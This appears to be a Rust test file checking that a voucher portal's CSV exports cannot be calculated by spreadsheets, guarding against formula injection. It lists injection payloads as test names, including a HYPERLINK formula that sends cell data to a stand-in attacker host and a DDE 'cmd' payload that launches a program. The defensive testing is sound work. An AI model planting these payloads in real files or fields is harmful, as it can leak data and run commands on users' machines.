//! Cells of spreadsheets (ASVS 1.2.10): none begins so that a spreadsheet would calculate it, whatever a package or an agent is called.

use std::path::Path;

use shared::staff::Role;
use store::voucher::{self, Paper};

use crate::operator::EMAIL;
use crate::people::{Stage, secret};

/// What spreadsheets calculate, or send somewhere.
const FORMULAS: [&str; 6] =
    ["=HYPERLINK(\"http://evil.example/?x=\"&A1)", "=cmd|' /C calc'!A0", "+1+1", "-1+1|x", "@SUM(1+1)", "=1+1,=2+2"];

/// The cells of comma-separated values, read as RFC 4180 has them.
fn cells(text: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut letters = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '"' if quoted && letters.peek() == Some(&'"') => {
                letters.next();
                cell.push('"');
            }
            '"' => quoted = !quoted,
            ',' | '\n' if !quoted => cells.push(std::mem::take(&mut cell)),
            '\r' if !quoted => {}
            other => cell.push(other),
        }
    }
    assert!(!quoted && cell.is_empty(), "a file ends with the end of a line: {text}");
    cells
}

/// Whether a spreadsheet would calculate a cell.
fn is_calculated(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n'])
}

#[tokio::test]
async fn no_cell_of_a_file_with_vouchers_is_calculated() {
    let stage = Stage::open().await;
    let owner = stage.staff(EMAIL, Role::Owner).await;
    let csrf = secret(&stage.web, &owner).await;
    let now = stage.world.clock.now();
    for (number, name) in FORMULAS.into_iter().enumerate() {
        let package = stage.world.package(&format!("package-{number}"), |package| package.name = name.to_owned()).await;
        let paper = Paper { agent: Some(name), label: name, redeem_before: None };
        let code = shared::voucher::new_code();
        let printed = voucher::print_batch(&stage.world.db, &package, &paper, &[code], "test", now).await.unwrap();
        let path = format!("/admin/vouchers/{}/file", printed.number);
        let file = stage.web.send(&path, &owner.cookie, &[("csrf", &csrf), ("file", "csv")]).await;
        assert_eq!(file.status, 200, "{name}: {}", file.text);
        let cells = cells(&file.text);
        assert_eq!(cells.len(), 12, "a line of names and one of a voucher: {cells:?}");
        assert!(cells.iter().any(|cell| cell.contains(name.trim())), "{name} is in it, as text: {cells:?}");
        assert!(!cells.iter().any(|cell| is_calculated(cell)), "{name}: {cells:?}");
    }
}

/// Whoever makes another file of comma-separated values takes the same care of its cells.
#[test]
fn every_file_of_values_is_made_with_the_same_cells() {
    fn sources(folder: &Path, each: &mut impl FnMut(&Path, &str)) {
        for entry in std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()) {
            match entry.is_dir() {
                true => sources(&entry, each),
                false => each(&entry, &std::fs::read_to_string(&entry).unwrap_or_default()),
            }
        }
    }
    let mut makers = 0;
    sources(Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../portal/src")), &mut |path, text| {
        if text.contains("\"text/csv") {
            makers += 1;
            let is_careful = text.contains("csv::render") || text.contains("csv::cell");
            assert!(is_careful, "{path:?} makes comma-separated values: put every cell through vouchers::csv::cell");
        }
    });
    assert!(makers >= 1);
}

#[test]
fn cells_are_read_as_a_spreadsheet_reads_them() {
    assert_eq!(cells("a,\"b,\"\"c\"\"\r\nd\"\r\n'=1,\r\n"), ["a", "b,\"c\"\r\nd", "'=1", ""]);
    assert!(is_calculated("=1") && is_calculated("@x") && !is_calculated("'=1") && !is_calculated(""));
}
